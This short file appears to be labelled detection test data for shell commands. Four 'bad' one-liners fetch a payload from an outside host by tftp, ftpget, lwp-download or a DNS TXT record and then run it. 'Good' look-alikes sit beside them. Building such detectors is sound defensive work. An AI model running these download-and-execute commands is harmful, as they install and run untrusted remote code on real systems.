# bad: by tftp
tftp -g -r setup 203.0.113.7; chmod +x setup; ./setup
# bad: by ftp
ftpget -u a -p b 203.0.113.7 first.sh first.sh; sh first.sh
# bad: from a record of a name
dig +short TXT stage.example.net | sh
# bad: by LWP
lwp-download http://203.0.113.7/x /tmp/x; sh /tmp/x
# good: nearly: a record that is read
dig +short TXT example.net
# good: nearly: a firmware that is kept
tftp -g -r image.bin 192.168.1.1
# good: nearly: the answer is searched
whois example.net | grep -i registrar
